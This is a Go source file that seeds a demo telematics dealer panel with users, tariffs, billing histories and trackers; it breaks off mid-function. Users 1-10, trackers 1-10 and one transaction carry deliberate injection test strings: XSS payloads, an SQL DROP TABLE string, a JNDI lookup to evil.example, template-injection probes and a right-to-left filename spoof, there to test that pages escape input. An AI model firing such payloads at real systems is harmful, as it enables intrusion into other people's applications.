package panelsim

import (
	"math"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

// Default size of the demo dealer.
const (
	DefaultUsers    = 200
	DefaultTrackers = 600
)

// SeedConfig sizes the demo dealer's data. Zero fields keep the defaults;
// a negative count seeds none. Load tests use 100,000 users and 300,000
// trackers, which seed in well under two seconds.
type SeedConfig struct {
	Users    int
	Trackers int
}

// seedAnchor is the seed's "now". Every seeded date derives from it rather
// than from the clock, so every start produces the same data.
var seedAnchor = time.Date(2026, time.November, 20, 12, 0, 0, 0, time.UTC)

// Fixed seeds of the random streams: users, trackers and each user's
// billing history draw from separate streams, so resizing one does not
// reshuffle the others.
const (
	userStream    = 0x5eed0001
	trackerStream = 0x5eed0002
	ledgerStream  = 0x5eed0003
	streamSalt    = 0xd1ce
)

// dealerID is the demo dealer's id; every user and tracker belongs to it.
const dealerID = 5001

// seed builds the demo dealer's store.
func seed(sc SeedConfig) *Store {
	users, trackers := sc.Users, sc.Trackers
	if users == 0 {
		users = DefaultUsers
	}
	if trackers == 0 {
		trackers = DefaultTrackers
	}
	users, trackers = max(users, 0), max(trackers, 0)
	if users == 0 {
		trackers = 0
	}

	st := newStore(seedAnchor, users, trackers)
	st.dealer = seedDealer()
	st.timezones = timeZoneTable()
	seedTariffs(st)
	seedUsers(st, users)
	st.indexUsersForSearchLocked()
	seedTrackers(st, trackers)
	seedStock(st)      // inventory.go
	seedDealerSide(st) // settings.go
	st.nextTransactionID = (st.nextUserID + 1) * 100

	active := st.dealerViewLocked().ActiveAmount
	st.dealer.ActiveLimit = max(100, (active*6/5+99)/100*100)
	return st
}

func ptr[T any](v T) *T { return &v }

func seedDealer() Dealer {
	return Dealer{
		ID:             dealerID,
		SellerID:       3,
		ParentDealerID: 1,
		ContractType:   "PAAS",
		TariffID:       5,
		Tariff: PaasTariff{
			ID: 5, Name: "PaaS Business", Type: "monthly", Algorithm: "plain", Currency: "USD",
			LicensePrice: ptr(1.2), MinLicensePay: ptr(150.0), PremiumGIS: true,
			ServicePrices: ServicePrices{IncomingSMS: 0.02, OutgoingSMS: 0.05, ServiceSMS: 0.05, PhoneCall: 0.15, Traffic: 0.01},
			StorePeriod:   "P3Y",
		},
		TrackerTariffEndDate: dayOf(time.Date(2026, time.December, 31, 0, 0, 0, 0, time.UTC)),
		StorePeriod:          "P6M",
		Title:                "Navixy Demo",
		BlockStatus:          "NOT_BLOCKED",
		LegalName:            `Demo Telematics & Co. "Fleet" Ltd`,
		ActiveAmountSubpaas:  19,
		Locale:               "en_US",
		Domain:               "demo.navixy.com",
		Favicon:              ptr("paas/5001/custom.ico"),
		Logo:                 ptr("paas/5001/logo.png"),
		EnableTrackers:       true,
		EnableCameras:        true,
		AllowBranding:        true,
		PasswordPolicy: PasswordPolicy{
			MinLength: 12, MaxLength: 20, SpecialChars: "!@#$%^&*",
			MinSpecialCharsCount: 1, MinDigitsCount: 1, MinUppercaseCount: 1, MinLowercaseCount: 1,
		},
		PaasActivationDate:  dayOf(time.Date(2019, time.March, 1, 0, 0, 0, 0, time.UTC)),
		LicenseBalance:      1250.75,
		SellerCurrency:      "USD",
		Features:            []string{"branding_web", "branding_mobile", "navixy_label", "tracking", "reports", "fleet", "field_service", "premium_gis"},
		DefaultUserTimeZone: "Europe/London",
	}
}

// Seeded plan ids the trackers refer to.
const (
	planBasic     = 1
	planStandard  = 2
	planPremium   = 3
	planFleetPro  = 4
	planActiveDay = 5
	planLegacy    = 7
	planHostile   = 8
	planVideo     = 9
	planVideoPro  = 10
	planCyrillic  = 11
)

func seedTariffs(st *Store) {
	prices := func(in, out, svc, call, traffic float64) ServicePrices {
		return ServicePrices{IncomingSMS: in, OutgoingSMS: out, ServiceSMS: svc, PhoneCall: call, Traffic: traffic}
	}
	std := prices(0.3, 0.3, 0.2, 0.6, 0.09)
	plans := []Tariff{
		{Name: "Basic Tracking", GroupID: 1, Active: true, Type: "monthly", Price: 4.99, DeviceLimit: 100, StorePeriod: "3m", DeviceType: "tracker", AutoProlong: true, Features: []string{"event_notification"}},
		{Name: "Standard", GroupID: 1, Active: true, Type: "monthly", Price: 7.99, DeviceLimit: 500, HasReports: true, StorePeriod: "6m", DeviceType: "tracker", AutoProlong: true, Features: []string{"event_notification", "report_xls"}},
		{Name: "Premium", GroupID: 2, Active: true, Type: "monthly", Price: 12.55, EarlyChangePrice: ptr(23.0), DeviceLimit: 2000, HasReports: true, StorePeriod: "1y", DeviceType: "tracker", AutoProlong: true, Features: []string{"api", "event_notification", "report_xls", "routing"}},
		{Name: "Fleet Pro", GroupID: 2, Active: true, Type: "monthly", Price: 19.9, EarlyChangePrice: ptr(30.0), DeviceLimit: 5000, HasReports: true, StorePeriod: "2y", DeviceType: "tracker", ProportionalCharge: true, AutoProlong: true, Features: []string{"api", "event_notification", "report_xls", "routing", "fleet"}},
		{Name: "Pay per active day", GroupID: 3, Active: true, Type: "activeday", Price: 0.35, DeviceLimit: 1000, HasReports: true, StorePeriod: "1y", DeviceType: "tracker", Features: []string{"event_notification"}},
		{Name: "Seasonal (active day)", GroupID: 3, Active: false, Type: "activeday", Price: 0.5, DeviceLimit: 200, StorePeriod: "3m", DeviceType: "tracker"},
		{Name: "Legacy 2019", GroupID: 1, Active: false, Type: "monthly", Price: 3.5, DeviceLimit: 50, StorePeriod: "1m", DeviceType: "tracker"},
		{Name: `<b>Gold</b> "VIP" & 'Partners'`, GroupID: 4, Active: true, Type: "monthly", Price: 25, EarlyChangePrice: ptr(40.0), DeviceLimit: 10000, HasReports: true, StorePeriod: "3y", DeviceType: "tracker", AutoProlong: true, Features: []string{"api", "report_xls"}},
		{Name: "Video Basic", GroupID: 5, Active: true, Type: "monthly", Price: 9.99, DeviceLimit: 0, StorePeriod: "1m", DeviceType: "camera", AutoProlong: true},
		{Name: "Video Pro", GroupID: 5, Active: true, Type: "monthly", Price: 19.99, EarlyChangePrice: ptr(10.0), DeviceLimit: 0, HasReports: true, StorePeriod: "3m", DeviceType: "camera", AutoProlong: true},
		{Name: "Тариф «Стандарт»", GroupID: 1, Active: true, Type: "monthly", Price: 6, DeviceLimit: 300, HasReports: true, StorePeriod: "6m", DeviceType: "tracker", AutoProlong: true},
		{Name: "Smart Socket", GroupID: 6, Active: true, Type: "monthly", Price: 1.99, DeviceLimit: 0, StorePeriod: "1m", DeviceType: "socket"},
		{Name: "Free trial", GroupID: 1, Active: false, Type: "monthly", Price: 0, DeviceLimit: 3, StorePeriod: "2d", DeviceType: "tracker"},
	}
	for i := range plans {
		p := plans[i]
		p.ServicePrices = std
		if p.Features == nil {
			p.Features = []string{}
		}
		st.insertTariffLocked(&p)
	}
	st.trackerDefault = TariffDefaults{TariffID: planStandard, ActivationBonus: 1.1, FreeDays: 14, FreeDaysDeviceLimit: ptr(3)}
	st.cameraDefault = TariffDefaults{TariffID: planVideo, ActivationBonus: 0.5, FreeDays: 7, FreeDaysDeviceLimit: ptr(3)}
	st.wholesale = prices(0.27, 0.27, 0.17, 0.55, 0.05)
}

// place is a region customers come from: address parts, time zone, locale
// and phone country code.
type place struct {
	country, region, city, zip, tz, locale, phone string
	streets                                       []string
}

var places = []place{
	{"United States", "California", "Los Angeles", "900", "America/Los_Angeles", "en_US", "1", []string{"Sunset Blvd", "Main Street", "Wilshire Blvd"}},
	{"United States", "New York", "New York", "100", "America/New_York", "en_US", "1", []string{"Broadway", "5th Avenue", "Wall Street"}},
	{"United Kingdom", "England", "London", "EC1A ", "Europe/London", "en_GB", "44", []string{"Baker Street", "Oxford Street", "King's Road"}},
	{"Germany", "Bavaria", "München", "803", "Europe/Berlin", "de_DE", "49", []string{"Leopoldstraße", "Maximilianstraße", "Sendlinger Straße"}},
	{"Spain", "Madrid", "Madrid", "280", "Europe/Madrid", "es_ES", "34", []string{"Calle Mayor", "Gran Vía", "Calle de Alcalá"}},
	{"Mexico", "Jalisco", "Guadalajara", "441", "America/Mexico_City", "es_MX", "52", []string{"Av. Chapultepec", "Calle Morelos", "Av. Vallarta"}},
	{"Brazil", "São Paulo", "São Paulo", "013", "America/Sao_Paulo", "pt_BR", "55", []string{"Av. Paulista", "Rua Augusta", "Rua Oscar Freire"}},
	{"United Arab Emirates", "Dubai", "Dubai", "000", "Asia/Dubai", "en_US", "971", []string{"Sheikh Zayed Road", "Al Wasl Road", "Jumeirah Beach Road"}},
	{"India", "Karnataka", "Bengaluru", "560", "Asia/Kolkata", "en_US", "91", []string{"MG Road", "Brigade Road", "Residency Road"}},
	{"Australia", "New South Wales", "Sydney", "200", "Australia/Sydney", "en_US", "61", []string{"George Street", "Pitt Street", "Oxford Street"}},
	{"Canada", "Ontario", "Toronto", "M5H ", "America/Toronto", "en_US", "1", []string{"Yonge Street", "Queen Street West", "Bay Street"}},
	{"Russia", "Moscow", "Moscow", "101", "Europe/Moscow", "ru_RU", "7", []string{"Tverskaya St", "Arbat St", "Leninsky Ave"}},
	{"Kazakhstan", "Almaty", "Almaty", "050", "Asia/Almaty", "ru_RU", "7", []string{"Abay Ave", "Dostyk Ave", "Tole Bi St"}},
	{"Türkiye", "İstanbul", "İstanbul", "344", "Europe/Istanbul", "tr_TR", "90", []string{"İstiklal Caddesi", "Bağdat Caddesi", "Barbaros Bulvarı"}},
}

// A name in its own script and the Latin spelling its login uses.
type name struct{ native, latin string }

func latinNames(names ...string) []name {
	out := make([]name, len(names))
	for i, n := range names {
		out[i] = name{n, n}
	}
	return out
}

var (
	firstNames = latinNames("James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda",
		"David", "Elizabeth", "William", "Barbara", "Carlos", "María", "José", "Lucía", "Hans", "Greta",
		"Jürgen", "Sofia", "Luca", "Chloé", "Amit", "Priya", "Noah", "Olivia", "Liam", "Emma", "Ahmed", "Fatima")
	lastNames = latinNames("Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis",
		"Rodriguez", "Martinez", "Hernández", "López", "González", "Müller", "Schmidt", "Schneider", "Fischer",
		"Rossi", "Dubois", "Silva", "Santos", "Patel", "Sharma", "Taylor", "Anderson", "Thomas", "Moore", "Martin", "Lee", "O'Connor")
	middleNames = []string{"", "", "", "William", "Marie", "James", "Ann", "Lee", "Jose", "Petrovna"}
	// cyrillicFirst and cyrillicLast give some customers Russian names.
	cyrillicFirst = []name{{"Иван", "ivan"}, {"Ольга", "olga"}, {"Дмитрий", "dmitry"}, {"Анна", "anna"}, {"Сергей", "sergey"}, {"Наталья", "natalya"}}
	cyrillicLast  = []name{{"Иванов", "ivanov"}, {"Смирнова", "smirnova"}, {"Кузнецов", "kuznetsov"}, {"Попова", "popova"}, {"Соколов", "sokolov"}, {"Лебедева", "lebedeva"}}
	companies     = []string{"Acme Logistics", "Northwind Freight", "Blue River Transport", "Globex Delivery",
		"Initech Services", "Umbrella Couriers", "Stark Haulage", "Wayne Construction", "Cyberdyne Rentals",
		"Soylent Foods", "Hooli Mobility", "Vandelay Imports", "Tyrell Agro", "Gringotts Cash Transit"}
	companySuffixes = []string{"LLC", "Ltd", "Inc.", "GmbH", "S.A.", "Pty Ltd"}
	userComments    = []string{"", "", "", "", "VIP customer", "Pays by invoice, net 30", "Call before visiting the site",
		"Migrated from the old platform", "Prefers email contact", "Reseller lead: ask about fleet plan"}
	mailDomains = []string{"example.com", "example.org", "mail.example.net", "fleet.example.com"}
)

// userSchedule spreads n users' creation dates over the six years before
// the anchor: user i is created in [start+(i-1)*step, start+i*step).
func userSchedule(anchor time.Time, n int) (start time.Time, step time.Duration) {
	span := 6 * 365 * 24 * time.Hour
	return anchor.Add(-span), span / time.Duration(max(n, 1))
}

func seedUsers(st *Store, n int) {
	r := rand.New(rand.NewPCG(userStream, streamSalt))
	ledgerPCG := rand.NewPCG(0, 0)
	ledgerRand := rand.New(ledgerPCG)
	start, step := userSchedule(st.anchor, n)

	for i := 1; i <= n; i++ {
		u := &User{ID: i, DealerID: dealerID, seeded: true}
		pl := places[r.IntN(len(places))]
		var first, last name
		if pl.locale == "ru_RU" && r.IntN(2) == 0 {
			first, last = cyrillicFirst[r.IntN(len(cyrillicFirst))], cyrillicLast[r.IntN(len(cyrillicLast))]
		} else {
			first, last = firstNames[r.IntN(len(firstNames))], lastNames[r.IntN(len(lastNames))]
		}
		u.FirstName, u.LastName = first.native, last.native
		u.MiddleName = middleNames[r.IntN(len(middleNames))]
		u.Login = loginFor(first.latin, last.latin, i, mailDomains[r.IntN(len(mailDomains))])
		u.Activated = r.IntN(100) < 92
		u.Verified = u.Activated && r.IntN(100) < 95
		u.PhoneVerified = r.IntN(2) == 0
		u.Phone = digitsAfter(r, pl.phone, 10)
		u.PostCountry, u.PostRegion, u.PostCity = pl.country, pl.region, pl.city
		u.PostIndex = digitsAfter(r, pl.zip, 2)
		u.PostStreetAddress = strconv.Itoa(1+r.IntN(250)) + " " + pl.streets[r.IntN(len(pl.streets))]
		switch k := r.IntN(10); {
		case k < 6:
			u.LegalType = "individual"
		case k < 9:
			u.LegalType = "legal_entity"
			u.LegalName = companies[r.IntN(len(companies))] + " " + companySuffixes[r.IntN(len(companySuffixes))]
			u.IEC = digits(r, 9)
		default:
			u.LegalType = "sole_trader"
		}
		if u.LegalType != "individual" {
			u.RegisteredCountry, u.RegisteredRegion, u.RegisteredCity = pl.country, pl.region, pl.city
			u.RegisteredIndex = u.PostIndex
			u.RegisteredStreetAddress = u.PostStreetAddress
			u.TIN = digits(r, 10)
			u.StateRegNum = digits(r, 13)
			u.OKPOCode = digits(r, 8)
		}
		u.CreationDate = DateTime{start.Add(time.Duration(i-1)*step + time.Duration(r.Int64N(int64(max(step, time.Second))))).Truncate(time.Second)}
		u.Comment = userComments[r.IntN(len(userComments))]
		u.TimeZone, u.Locale = pl.tz, pl.locale
		u.Password = "Demo#Pass" + strconv.Itoa(1000+i)
		u.MFA = MFASettings{Type: "disallowed"}
		if r.IntN(10) == 0 {
			u.MFA = MFASettings{Type: "allowed", FactorTypes: []string{"email"}}
		}
		if r.IntN(5) == 0 {
			u.DefaultTariffID = ptr([]int{planBasic, planStandard, planPremium, planFleetPro, planActiveDay}[r.IntN(5)])
		}
		if r.IntN(10) == 0 {
			d := &Discount{Value: float64(5 * (1 + r.IntN(4))), MinTrackers: 5 * r.IntN(3), Strategy: "no_summing"}
			if r.IntN(2) == 0 {
				d.Strategy = "sum_with_progressive"
			}
			if r.IntN(2) == 0 {
				d.EndDate = dayOf(st.anchor.AddDate(0, 3, 0))
			}
			u.Discount = d
		}
		if i <= len(hostileUsers) {
			hostileUsers[i-1](u)
		}
		ledgerPCG.Seed(ledgerStream, uint64(u.ID))
		u.Balance, u.Bonus = seedLedger(ledgerRand, u, st.anchor, dealerID, nil, nil)
		st.appendUserLocked(u)
	}
}

// hostileUsers overwrite users 1-10 with values that break naive pages:
// markup, quotes, template syntax, very long and non-Latin text. They sit
// on the first page of every list sorted by id.
var hostileUsers = []func(u *User){
	func(u *User) { // 1: script in the name
		u.FirstName, u.LastName = "<script>alert(1)</script>", "Smith"
		u.Comment = `<img src=x onerror=alert('comment')>`
		u.Activated, u.Verified = true, true
	},
	func(u *User) { // 2: quotes everywhere
		u.FirstName, u.MiddleName, u.LastName = `O'Brien "Bob"`, `'; DROP TABLE users; --`, `O'Brien`
		u.Login = "o'brien+bob@example.com"
		u.LegalType, u.LegalName = "legal_entity", `"Bob's" <Trucking> & Sons`
		u.RegisteredCountry, u.RegisteredRegion, u.RegisteredCity = u.PostCountry, u.PostRegion, u.PostCity
		u.RegisteredIndex, u.RegisteredStreetAddress = u.PostIndex, u.PostStreetAddress
		u.TIN, u.IEC, u.StateRegNum, u.OKPOCode = "1131145180", "773101001", "1234567890123", "93281776"
	},
	func(u *User) { // 3: a 300-character name
		u.FirstName = "Maximilian"
		u.LastName = strings.Repeat("Wolfeschlegelsteinhausenbergerdorff-", 9)[:300]
		u.PostStreetAddress = strings.Repeat("Very Long Industrial Estate Road ", 6)
	},
	func(u *User) { // 4: Cyrillic
		u.FirstName, u.MiddleName, u.LastName = "Иван", "Петрович", "Сидоров"
		u.LegalType, u.LegalName = "legal_entity", "ООО «Рога и копыта»"
		u.PostCountry, u.PostRegion, u.PostCity, u.PostIndex = "Россия", "Московская область", "Москва", "101000"
		u.PostStreetAddress = "ул. Тверская, д. 7, кв. 12"
		u.RegisteredCountry, u.RegisteredRegion, u.RegisteredCity = u.PostCountry, u.PostRegion, u.PostCity
		u.RegisteredIndex, u.RegisteredStreetAddress = u.PostIndex, u.PostStreetAddress
		u.TIN, u.IEC, u.StateRegNum, u.OKPOCode = "7707083893", "773601001", "1027700132195", "00032537"
		u.Comment = "Звонить после 18:00 «срочно»"
		u.TimeZone, u.Locale, u.Phone = "Europe/Moscow", "ru_RU", "79161234567"
	},
	func(u *User) { // 5: Chinese
		u.FirstName, u.MiddleName, u.LastName = "小明", "", "王"
		u.LegalType, u.LegalName = "legal_entity", "北京快运物流有限公司"
		u.PostCountry, u.PostRegion, u.PostCity, u.PostIndex = "中国", "北京市", "北京", "100000"
		u.PostStreetAddress = "朝阳区建国路88号"
		u.RegisteredCountry, u.RegisteredRegion, u.RegisteredCity = u.PostCountry, u.PostRegion, u.PostCity
		u.RegisteredIndex, u.RegisteredStreetAddress = u.PostIndex, u.PostStreetAddress
		u.TIN, u.IEC, u.StateRegNum, u.OKPOCode = "91110000600037341L", "", "", ""
		u.Comment = "重要客户，请优先处理"
		u.TimeZone, u.Locale, u.Phone = "Asia/Shanghai", "zh_CN", "8613800138000"
	},
	func(u *User) { // 6: Arabic, right to left
		u.FirstName, u.MiddleName, u.LastName = "محمد", "عبد الله", "العتيبي"
		u.PostCountry, u.PostRegion, u.PostCity, u.PostIndex = "السعودية", "منطقة الرياض", "الرياض", "11564"
		u.PostStreetAddress = "طريق الملك فهد ١٢٣"
		u.Comment = "عميل مهم"
		u.TimeZone, u.Locale, u.Phone = "Asia/Riyadh", "ar_SA", "966501234567"
	},
	func(u *User) { // 7: template and expression syntax
		u.FirstName, u.LastName = "{{.Hash}}", "${jndi:ldap://evil.example/a}"
		u.Comment = `{{ template "x" }} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}`
	},
	func(u *User) { // 8: entities that must not be decoded, control characters
		u.FirstName, u.LastName = "Tom &amp; Jerry", "&lt;b&gt;bold&lt;/b&gt;"
		u.Comment = "Line one\nLine two\r\n\tindented & <tagged>"
	},
	func(u *User) { // 9: emoji and a right-to-left override
		u.FirstName, u.LastName = "🚚 Fleet", "Owner\u202Egnp.exe"
		u.LegalType, u.LegalName = "sole_trader", ""
		u.RegisteredCountry, u.RegisteredRegion, u.RegisteredCity = u.PostCountry, u.PostRegion, u.PostCity
		u.RegisteredIndex, u.RegisteredStreetAddress = u.PostIndex, u.PostStreetAddress
		u.TIN, u.StateRegNum, u.OKPOCode, u.IEC = "123456789012", "", "", ""
		u.Comment = "👍 paid 💰 on time"
	},
	func(u *User) { // 10: markup that breaks out of tables and attributes
		u.FirstName, u.LastName = "</td></tr></table><h1>broken</h1>", "javascript:alert(1)"
		u.PostStreetAddress = `"><svg/onload=alert(1)>`
		u.Comment = "</textarea><script>alert(2)</script>"
	},
}

// loginFor builds a unique e-mail login from Latin names (ASCII letters
// and digits kept, lower-cased) and the user id.
func loginFor(first, last string, id int, domain string) string {
	var buf [96]byte
	b := appendLoginPart(buf[:0], first)
	b = append(b, '.')
	b = appendLoginPart(b, last)
	b = strconv.AppendInt(b, int64(id), 10)
	b = append(b, '@')
	b = append(b, domain...)
	return string(b)
}

func appendLoginPart(b []byte, s string) []byte {
	n := len(b)
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		if (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') {
			b = append(b, c)
		}
	}
	if len(b) == n {
		b = append(b, "user"...)
	}
	return b
}

// digits returns n random decimal digits.
func digits(r *rand.Rand, n int) string { return digitsAfter(r, "", n) }

// digitsAfter returns prefix followed by n (at most 18) random decimal digits.
func digitsAfter(r *rand.Rand, prefix string, n int) string {
	var buf [48]byte
	b := append(buf[:0], prefix...)
	return string(appendPadded(b, r.Uint64N(pow10[n]), n))
}

var pow10 = [...]uint64{1, 1e1, 1e2, 1e3, 1e4, 1e5, 1e6, 1e7, 1e8, 1e9, 1e10, 1e11, 1e12, 1e13, 1e14, 1e15, 1e16, 1e17, 1e18}

// appendPadded appends v as exactly n decimal digits, zero-padded.
func appendPadded(b []byte, v uint64, n int) []byte {
	start := len(b)
	for range n {
		b = append(b, '0')
	}
	for i := len(b) - 1; i >= start && v > 0; i-- {
		b[i] = byte('0' + v%10)
		v /= 10
	}
	return b
}

// numbered returns prefix followed by n.
func numbered(prefix string, n int) string {
	var buf [64]byte
	return string(strconv.AppendInt(append(buf[:0], prefix...), int64(n), 10))
}

func round2(f float64) float64 { return math.Round(f*100) / 100 }

func newLedgerRand(userID int) *rand.Rand {
	return rand.New(rand.NewPCG(ledgerStream, uint64(userID)))
}

// seedLedger plays a seeded user's billing history from the account's
// creation to the anchor: dealer top-ups, monthly and SMS charges, bonus
// on device registration. It returns the final balance and bonus; emit,
// when not nil, receives each transaction. The same random stream and user
// give the same history, so the seed only keeps the balances and the
// history is rebuilt on first read (the tracker ids it mentions are the
// user's trackers at that time).
func seedLedger(r *rand.Rand, u *User, anchor time.Time, dealer int, trackerIDs []int, emit func(Transaction)) (balance, bonus float64) {
	const maxEntries = 12
	n := 3 + r.IntN(maxEntries-2)
	from := u.CreationDate.Time
	span := anchor.Sub(from)
	if span <= time.Minute {
		span = time.Minute
	}
	var offsets [maxEntries]int64
	for i := range n {
		offsets[i] = r.Int64N(int64(span))
	}
	slices.Sort(offsets[:n])

	for i := range n {
		pick, kind := r.IntN(1<<30), r.IntN(100)
		size := float64(r.IntN(1000)) / 1000 // 0..1, scales each kind's amount
		t := Transaction{
			ID:        u.ID*100 + i,
			Timestamp: DateTime{from.Add(time.Duration(offsets[i])).Truncate(time.Second)},
			UserID:    u.ID, DealerID: dealer,
			OldBalance: balance, OldBonus: bonus,
		}
		trackerID := 0
		if len(trackerIDs) > 0 {
			trackerID = trackerIDs[pick%len(trackerIDs)]
		}
		switch {
		case i == 0 || kind < 30 || balance < 5:
			t.Type, t.Subtype, t.Description = "payment", "partner", "Balance top-up by the dealer"
			t.Amount = round2(20 + 480*size)
			if u.ID == 1 && i == 0 {
				t.Description = "<script>alert('transaction')</script>"
			}
		case kind < 70:
			t.Type, t.Subtype, t.TrackerID = "charge", "monthly", trackerID
			t.Description = "Monthly fee for tracker #" + strconv.Itoa(trackerID)
			t.Amount = -round2(min(balance, 4.99+15*size))
		case kind < 85:
			t.Type, t.Subtype, t.Description = "charge", "sms", "SMS notifications"
			t.Amount = -round2(min(balance, 0.5+2.5*size))
		default:
			t.Type, t.Subtype, t.TrackerID = "bonus_charge", "register", trackerID
			t.Description = "Recharge bonus balance during tracker registration"
			t.BonusAmount = 10
		}
		balance = round2(balance + t.Amount)
		bonus = round2(bonus + t.BonusAmount)
		t.NewBalance, t.NewBonus = balance, bonus
		if emit != nil {
			emit(t)
		}
	}
	return balance, bonus
}

// Plans the seed puts devices on, repeated for weight.
var (
	cameraPlans  = []int{planVideo, planVideoPro}
	mobilePlans  = []int{planBasic, planActiveDay}
	vehiclePlans = []int{planBasic, planStandard, planStandard, planPremium, planFleetPro, planActiveDay, planLegacy, planHostile, planCyrillic}
)

// deviceModel is a tracker model the seed uses: model code, display name
// and the IMEI type allocation code its device ids start with.
type deviceModel struct {
	code, name, tac string
	mobile, camera  bool
}

var (
	hardwareModels = []deviceModel{
		{code: "telfmb120", name: "Teltonika FMB120", tac: "35209310"},
		{code: "telfmb920", name: "Teltonika FMB920", tac: "35209311"},
		{code: "telfmc130", name: "Teltonika FMC130", tac: "35209312"},
		{code: "qlgv300", name: "Queclink GV300", tac: "86247302"},
		{code: "qlgv55", name: "Queclink GV55", tac: "86247303"},
		{code: "concox_gt06n", name: "Concox GT06N", tac: "35876106"},
		{code: "ruptela_eco4", name: "Ruptela FM-Eco4", tac: "86312403"},
		{code: "galileosky_v7", name: "Galileosky 7.0", tac: "86820104"},
	}
	mobileModels = []deviceModel{
		{code: "navixymobile_xgps", name: "X-GPS Tracker Android", mobile: true},
		{code: "iosnavixytracker", name: "X-GPS Tracker iOS", mobile: true},
	}
	cameraModels = []deviceModel{
		{code: "streamax_ad_plus2", name: "Streamax AD Plus 2.0", tac: "86999001", camera: true},
		{code: "howen_hero_me40", name: "Howen Hero-ME40", tac: "86999002", camera: true},
	}
	vehicleLabels = []string{"Truck", "Van", "Reefer", "Excavator", "Tractor", "Bus", "Taxi", "Trailer",
		"Forklift", "Ambulance", "Tanker", "Pickup", "Crane", "Scooter", "Loader"}
	personLabels  = []string{"Courier Anna", "Agent Pedro", "Driver Li", "Technician Omar", "Nurse Kate", "Sales Rep Tom"}
	trackerNotes  = []string{"", "", "", "", "", "SIM replaced in March", "Check battery", "Installed under the dashboard", "Need to change SIM till next month"}
	hostileLabels = []string{
		`"><img src=x onerror=alert(1)>`,
		`<script>alert(document.cookie)</script>`,
		`O'Brien "Bob" truck`,
		strings.Repeat("Long-haul refrigerated semi-trailer unit ", 8)[:300],
		"Грузовик №5 «Север»",
		"冷链车 03 号",
		"شاحنة التوصيل ٧",
		"{{7*7}} ${7*7} #{7*7}",
		"</textarea><svg onload=alert(1)>",
		"Tom &amp; Jerry's \"van\" 🚐",
	}
	hostileTrackerNotes = map[int]string{
		2:  "{{ .Hash }} ${hash} {{7*7}}",
		4:  strings.Repeat("Very long comment about this device. ", 82)[:3000],
		8:  "<b>not bold</b> & <i>not italic</i>",
		10: "Line one\nLine two\r\n\tindented",
	}
)

// trackerSeeder carries the state of the tracker seed.
type trackerSeeder struct {
	st        *Store
	r         *rand.Rand
	users     int
	start     time.Time
	step      time.Duration
	originals []*Tracker // candidates for cloning
	// userStart and userStep are seedUsers' creation-date schedule: user i
	// was created before userStart + i*userStep.
	userStart time.Time
	userStep  time.Duration
	// nextMonth is when monthly plans renew: the 1st of the anchor's next month.
	nextMonth time.Time
}

func seedTrackers(st *Store, n int) {
	if n == 0 {
		return
	}
	span := 5 * 365 * 24 * time.Hour
	userStart, userStep := userSchedule(st.anchor, len(st.users))
	ts := &trackerSeeder{
		st: st, r: rand.New(rand.NewPCG(trackerStream, streamSalt)), users: len(st.users),
		start: st.anchor.Add(-span), step: span / time.Duration(n),
		userStart: userStart, userStep: userStep,
		nextMonth: time.Date(st.anchor.Year(), st.anchor.Month()+1, 1, 0, 0, 0, 0, time.UTC),
	}
	for id := 1; id <= n; id++ {
		switch {
		case id <= len(hostileLabels):
			// Trackers 1-10 carry the hostile labels, owned by users 1-10.
			t := ts.original(id, 1+(id-1)%ts.users)
			t.Label = hostileLabels[id-1]
			t.Comment = hostileTrackerNotes[id]
			t.Deleted = id == 9
		case id == 11 && ts.users > 1:
			// A clone of tracker 1 (hostile label) for user 2.
			ts.clone(id, st.trackerLocked(1), 2)
		case id == 12 && ts.users > 4:
			ts.clone(id, st.trackerLocked(3), 5)
		default:
			owner := ts.owner()
			if len(ts.originals) > 0 && ts.r.IntN(100) < 6 {
				orig := ts.originals[ts.r.IntN(len(ts.originals))]
				if ts.canClone(orig, owner) {
					ts.clone(id, orig, owner)
					continue
				}
			}
			ts.original(id, owner)
		}
	}
	st.indexTrackersByOwnerLocked()
}

// owner picks a user, favouring early ones: a few customers run big
// fleets, most have a handful of devices, some none.
func (ts *trackerSeeder) owner() int {
	f := ts.r.Float64()
	return 1 + min(ts.users-1, int(float64(ts.users)*f*f))
}

func (ts *trackerSeeder) canClone(orig *Tracker, owner int) bool {
	if orig.UserID == owner || orig.Deleted || orig.Source.Corrupted {
		return false
	}
	for _, h := range orig.Source.holders {
		if h.UserID == owner {
			return false
		}
	}
	return true
}

func (ts *trackerSeeder) created(id int) time.Time {
	return ts.start.Add(time.Duration(id-1)*ts.step + time.Duration(ts.r.Int64N(int64(max(ts.step, time.Second))))).Truncate(time.Second)
}

// original seeds a tracker over a new device.
func (ts *trackerSeeder) original(id, owner int) *Tracker {
	r, st := ts.r, ts.st
	var m deviceModel
	switch k := r.IntN(100); {
	case k < 4:
		m = cameraModels[r.IntN(len(cameraModels))]
	case k < 14:
		m = mobileModels[r.IntN(len(mobileModels))]
	default:
		m = hardwareModels[r.IntN(len(hardwareModels))]
	}
	created := ts.created(id)
	if ownerCreated := ts.userStart.Add(time.Duration(owner) * ts.userStep); created.Before(ownerCreated) {
		created = ownerCreated.Add(time.Hour) // a device joins after its owner
	}
	src := &Source{
		ID:           st.newSourceIDLocked(),
		Model:        m.code,
		CreationDate: Date{created.Truncate(24 * time.Hour)},
	}
	if m.mobile {
		src.DeviceID = strconv.Itoa(114000000000 + src.ID*7919)
	} else {
		src.DeviceID = imei(m.tac, src.ID)
		if r.IntN(100) < 5 {
			src.Phone = ptr("")
		} else {
			src.Phone = ptr(digitsAfter(r, "7999", 7))
		}
	}

	t := &Tracker{ID: id, UserID: owner, DealerID: dealerID, ModelName: m.name, Source: src,
		CreationDate: src.CreationDate, Comment: trackerNotes[r.IntN(len(trackerNotes))]}
	switch {
	case m.camera:
		t.Label = numbered("Dashcam ", id)
		src.TariffID = cameraPlans[r.IntN(len(cameraPlans))]
	case m.mobile:
		t.Label = personLabels[r.IntN(len(personLabels))]
		src.TariffID = mobilePlans[r.IntN(len(mobilePlans))]
	default:
		t.Label = numbered(vehicleLabels[r.IntN(len(vehicleLabels))]+" ", id)
		src.TariffID = vehiclePlans[r.IntN(len(vehiclePlans))]
	}
	if r.IntN(5) == 0 {
		t.GroupID = 1 + r.IntN(5)
	}
	if r.IntN(10) == 0 {
